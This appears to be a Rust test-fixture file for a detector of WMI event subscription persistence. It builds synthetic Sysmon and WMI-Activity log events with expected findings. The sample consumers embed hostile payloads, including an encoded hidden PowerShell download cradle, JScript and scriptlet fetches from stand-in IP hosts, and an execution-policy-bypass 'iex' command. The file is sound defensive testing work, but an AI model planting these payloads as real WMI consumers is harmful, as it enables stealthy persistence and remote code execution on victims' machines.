//! Fixture cases for WMI event subscriptions (issue 12): Sysmon 19/20/21 in the field sets of
//! several Sysmon versions, and WMI-Activity 5857/5858/5860/5861 as Windows writes them (their
//! fields under `UserData`), with the shapes of the real samples: a subscription logged out of
//! order, one without its filter, a consumer and filter without a binding, a deletion alone, a
//! lone filter, Windows' own binding and an attacker's, and events that look like them but are
//! not. A subscription's finding is expected on its anchor record (the binding, else the
//! consumer); the other events are its evidence.

use super::{build, expect, Expect, Fixture, SYSMON};
use crate::writer::{Event, Value};

const SYSMON_CHANNEL: &str = "Microsoft-Windows-Sysmon/Operational";
const ACTIVITY: &str = "Microsoft-Windows-WMI-Activity";
const ACTIVITY_CHANNEL: &str = "Microsoft-Windows-WMI-Activity/Operational";
const DETECTION: &str = "wmi_subscription";

/// The Sysmon field sets of WMI events.
#[derive(Clone, Copy)]
pub enum Schema {
    /// Sysmon 8 and later (event version 3): `RuleName` first.
    Current,
    /// Sysmon 6.10–7 (event version 2): no `RuleName`.
    Old,
}

/// A Sysmon value as Sysmon writes it: a space, then a quoted MOF literal.
fn mof(text: &str) -> String {
    format!(" \"{}\"", text.replace('\\', "\\\\").replace('"', "\\\""))
}

/// A Sysmon WMI event (19, 20, 21) with its common fields, then `fields`.
fn sysmon(eid: u16, operation: &str, schema: Schema, fields: &[(&str, String)]) -> Event {
    let event_type = match eid {
        19 => "WmiFilterEvent",
        20 => "WmiConsumerEvent",
        _ => "WmiBindingEvent",
    };
    let mut e = Event::new(SYSMON, eid, SYSMON_CHANNEL, "", 0);
    e.task = eid;
    e.process_id = 2032;
    e.user_sid = Some("S-1-5-18".into());
    e.version = match schema {
        Schema::Current => 3,
        Schema::Old => 2,
    };
    if let Schema::Current = schema {
        e = e.with(
            "RuleName",
            "technique_id=T1047,technique_name=Windows Management Instrumentation",
        );
    }
    e = e
        .with("EventType", event_type)
        .with("UtcTime", "2024-03-01 10:00:00.000")
        .with("Operation", operation)
        .with("User", "CORP\\admin");
    for (name, value) in fields {
        e = e.with(*name, value.as_str());
    }
    e
}

/// Sysmon 19: a filter (namespace `root\cimv2`).
pub fn filter(operation: &str, schema: Schema, name: &str, query: &str) -> Event {
    let fields = [
        ("EventNamespace", mof("root\\cimv2")),
        ("Name", mof(name)),
        ("Query", mof(query)),
    ];
    sysmon(19, operation, schema, &fields)
}

/// Sysmon 20: a consumer of Sysmon's `Type` (`Command Line`, `Script`).
pub fn consumer(
    operation: &str,
    schema: Schema,
    name: &str,
    kind: &str,
    destination: &str,
) -> Event {
    let fields = [
        ("Name", mof(name)),
        ("Type", kind.to_string()),
        ("Destination", mof(destination)),
    ];
    sysmon(20, operation, schema, &fields)
}

/// Sysmon 21: a binding of two object paths.
pub fn binding(operation: &str, schema: Schema, consumer: &str, filter: &str) -> Event {
    let fields = [("Consumer", mof(consumer)), ("Filter", mof(filter))];
    sysmon(21, operation, schema, &fields)
}

const QUERY: &str = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'";
const ENCODED: &str = "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";

/// Sysmon 19/20/21 on one host, every shape the real samples show.
pub fn sysmon_fixture() -> Fixture {
    use Schema::{Current, Old};
    let high = |action| expect(DETECTION, "high", action);
    let updater = "CommandLineEventConsumer.Name=\"Updater\"";
    let trigger = "__EventFilter.Name=\"UpdaterTrigger\"";
    let probe = "\\\\.\\root\\subscription:ActiveScriptEventConsumer.Name=\"ProbeScript\"";
    let probe_filter = "\\\\.\\root\\subscription:__EventFilter.Name=\"ProbeScript\"";
    let mut not_sysmon = binding("Created", Current, updater, trigger);
    not_sysmon.provider = "Microsoft-Windows-Sysmon-Lookalike".into();
    let mut wrong_type = consumer("Created", Current, "Odd", "Command Line", "x.exe");
    wrong_type.data.retain(|(n, _)| n != "EventType");
    wrong_type
        .data
        .insert(1, ("EventType".into(), Value::Str("WmiFilterEvent".into())));
    let events: Vec<(Event, Option<Expect>)> = vec![
        // Consumer, binding, and the filter logged after them (the CommandLine sample).
        (consumer("Created", Current, "Updater", "Command Line", ENCODED), None),
        (binding("Created", Current, updater, trigger), high("Created")),
        (filter("Created", Current, "UpdaterTrigger", QUERY), None),
        // WMIGhost: a script consumer modified, bound, no filter event; an older Sysmon.
        (
            consumer("Modified", Old, "ProbeScript", "Script", "var o=new ActiveXObject(\"MSXML2.XMLHTTP\");o.open(\"GET\",\"http://203.0.113.7/a\",false);"),
            None,
        ),
        (binding("Modified", Old, probe, probe_filter), high("Modified")),
        // PowerLurk: consumer and the filter of its name (logged twice), no binding.
        (
            consumer("Created", Current, "Evil", "Command Line", "cmd.exe /c echo %ProcessId% >> c:\\\\temp\\\\log.txt"),
            high("Created"),
        ),
        (filter("Created", Current, "Evil", "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName='notepad.exe'"), None),
        (filter("Created", Current, "Evil", "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName='notepad.exe'"), None),
        // Only a deletion: cleanup of something older.
        (
            binding("Deleted", Old, "CommandLineEventConsumer.Name=\"OldTask\"", "__EventFilter.Name=\"OldTrigger\""),
            expect(DETECTION, "low", "Deleted"),
        ),
        // A filter alone runs nothing: info, only with --context.
        (filter("Created", Current, "JustAFilter", "SELECT * FROM __InstanceCreationEvent WITHIN 5"), None),
        // A log-file consumer writes a file: low.
        (
            binding("Created", Current, "LogFileEventConsumer.Name=\"Logger\"", "__EventFilter.Name=\"LogTrigger\""),
            expect(DETECTION, "low", "Created"),
        ),
        // Not subscription events: another provider, and an EventType Sysmon does not write
        // for the id.
        (not_sysmon, None),
        (wrong_type, None),
        // The first subscription removed again.
        (consumer("Deleted", Current, "Updater", "Command Line", ENCODED), None),
        (binding("Deleted", Current, updater, trigger), None),
    ];
    build(
        "subscriptions/WS08-Sysmon.evtx",
        "WS08.corp.example",
        events,
        &[],
    )
}

/// A WMI-Activity event: fields under `UserData/<element>`.
fn activity(eid: u16, element: &str, fields: &[(&str, Value)]) -> Event {
    let mut e = Event::new(ACTIVITY, eid, ACTIVITY_CHANNEL, "", 0);
    e.keywords = 0x4000_0000_0000_0000;
    e.level = if eid == 5858 { 2 } else { 0 };
    e.process_id = 1912;
    e.user_sid = Some("S-1-5-18".into());
    e.user_data = Some(element.into());
    for (name, value) in fields {
        e = e.with(*name, value.clone());
    }
    e
}

/// BUILTIN\\Administrators (S-1-5-32-544) as 5861 writes a `CreatorSID`.
pub const SID_544: &str = "{1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, 0, 0}";
/// An account (S-1-5-21-3899523589-2416674273-2941457644-1104) as 5861 writes it.
pub const SID_1104: &str = "{1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0, 5, 2, 110, 232, 225, 133, 11, 144, 236, 20, 83, 175, 80, 4, 0, 0}";

/// WMI-Activity 5861 as Windows writes it: the filter and the consumer as MOF text in
/// `PossibleCause` (tab-indented, `\\` and `\"` escaped inside strings).
pub fn binding_5861(
    filter: &str,
    query: &str,
    class: &str,
    name: &str,
    creator: &str,
    props: &[(&str, &str)],
) -> Event {
    let escape = |t: &str| t.replace('\\', "\\\\").replace('"', "\\\"");
    let mut consumer: Vec<(String, String)> = props
        .iter()
        .map(|(k, v)| (k.to_string(), format!("\"{}\"", escape(v))))
        .collect();
    consumer.push(("CreatorSID".into(), creator.into()));
    consumer.push(("Name".into(), format!("\"{}\"", escape(name))));
    consumer.sort();
    let consumer: String = consumer
        .iter()
        .map(|(k, v)| format!("\t{k} = {v};\n"))
        .collect();
    let cause = format!(
        "Binding EventFilter: \ninstance of __EventFilter\n{{\n\tCreatorSID = {creator};\n\tEventNamespace = \"root\\\\cimv2\";\n\tName = \"{}\";\n\tQuery = \"{}\";\n\tQueryLanguage = \"WQL\";\n}};\nPerm. Consumer: \ninstance of {class}\n{{\n{consumer}}};\n",
        escape(filter),
        escape(query)
    );
    activity(
        5861,
        "Operation_ESStoConsumerBinding",
        &[
            ("Namespace", "//./root/subscription".into()),
            ("ESS", filter.into()),
            ("CONSUMER", format!("{class}=\"{name}\"").into()),
            ("PossibleCause", cause.into()),
        ],
    )
}

/// WMI-Activity 5857: a provider loaded in `wmiprvse.exe`.
pub fn provider_loaded(provider: &str, path: &str) -> Event {
    activity(
        5857,
        "Operation_StartedOperational",
        &[
            ("ProviderName", provider.into()),
            ("Code", "0x0".into()),
            ("HostProcess", "wmiprvse.exe".into()),
            ("ProcessID", Value::U32(7424)),
            ("ProviderPath", path.into()),
        ],
    )
}

/// Windows' own binding (`SCM Event Log Filter`) as 5861 logs it, with `creator`.
pub fn scm_builtin(creator: &str) -> Event {
    binding_5861(
        "SCM Event Log Filter",
        "select * from MSFT_SCMEventLogEvent",
        "NTEventLogEventConsumer",
        "SCM Event Log Consumer",
        creator,
        &[
            ("NameOfUserSIDProperty", "sid"),
            ("SourceName", "Service Control Manager"),
        ],
    )
}

/// WMI-Activity of one host: Windows' own binding (logged at two starts of the WMI service),
/// an attacker's with the consumer's provider loaded after it, and the noise around them.
pub fn activity_fixture() -> Fixture {
    let mut failure = activity(
        5858,
        "Operation_ClientFailure",
        &[
            ("Id", "{00000000-0000-0000-0000-000000000000}".into()),
            ("ClientMachine", "WS09".into()),
            ("User", Value::Null),
            ("ClientProcessId", Value::U32(5156)),
            ("Component", "Unknown".into()),
            (
                "Operation",
                "Start IWbemServices::ExecQuery - ROOT\\CIMV2 : SELECT SerialNumber FROM Win32_Bios".into(),
            ),
            ("ResultCode", "0x80041032".into()),
            ("PossibleCause", "Unknown".into()),
        ],
    );
    failure.level = 2;
    let temporary = activity(
        5860,
        "Operation_TemporaryEssStarted",
        &[
            ("NamespaceName", "root\\subscription".into()),
            (
                "Query",
                "\nSELECT * FROM __InstanceOperationEvent\nWITHIN 5\nWHERE\n\t\tTargetInstance ISA '__EventConsumer'".into(),
            ),
            ("User", "NT AUTHORITY\\SYSTEM".into()),
            ("Processid", Value::U32(6428)),
            ("ClientMachine", "WS09".into()),
            ("PossibleCause", "Temporary".into()),
        ],
    );
    let powershell = "powershell.exe -noP -ep bypass iex -c \"('C:\\Users\\john\\AppData\\Roaming\\Microsoft\\Office\\Recent\\tmpA7Z2.ps1')\"";
    let events: Vec<(Event, Option<Expect>)> = vec![
        (failure, None),
        (scm_builtin(SID_544), None),
        (
            provider_loaded("CIMWin32", "%systemroot%\\system32\\wbem\\cimwin32.dll"),
            None,
        ),
        (scm_builtin(SID_544), None),
        (
            binding_5861(
                "LogRotate Event",
                LOGON_QUERY,
                "CommandLineEventConsumer",
                "LogRotate Consumer",
                SID_1104,
                &[("CommandLineTemplate", powershell)],
            ),
            expect(DETECTION, "high", "Bound"),
        ),
        (
            provider_loaded(
                "CommandLineEventConsumer",
                "%SystemRoot%\\system32\\wbem\\wbemcons.dll",
            ),
            None,
        ),
        (temporary, None),
    ];
    build(
        "subscriptions/WS09-WMI-Activity.evtx",
        "WS09.corp.example",
        events,
        &[],
    )
}

/// WMI-Activity of another host: a script consumer's binding, and Windows' names with an
/// account's creator, which is not Windows' own (reported; it only writes an event log
/// entry: low).
pub fn other_activity_fixture() -> Fixture {
    let events: Vec<(Event, Option<Expect>)> = vec![
        (
            binding_5861(
                "Probe",
                "SELECT * FROM __InstanceModificationEvent WITHIN 60",
                "ActiveScriptEventConsumer",
                "Probe",
                SID_1104,
                &[
                    ("ScriptingEngine", "JScript"),
                    (
                        "ScriptText",
                        "GetObject(\"script:https://203.0.113.9/p.sct\")",
                    ),
                ],
            ),
            expect(DETECTION, "high", "Bound"),
        ),
        (scm_builtin(SID_1104), expect(DETECTION, "low", "Bound")),
    ];
    build(
        "subscriptions/WS10-WMI-Activity.evtx",
        "WS10.corp.example",
        events,
        &[],
    )
}

const LOGON_QUERY: &str =
    "SELECT * FROM __InstanceCreationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_LoggedOnUser'";

/// The Sysmon log of the host in `activity_fixture`: the filter of the attacker's binding,
/// created before it (the join crosses files; this event is evidence, not a finding).
pub fn host_sysmon_fixture() -> Fixture {
    let events = vec![(
        filter("Created", Schema::Current, "LogRotate Event", LOGON_QUERY),
        None,
    )];
    build(
        "subscriptions/WS09-Sysmon.evtx",
        "WS09.corp.example",
        events,
        &[],
    )
}
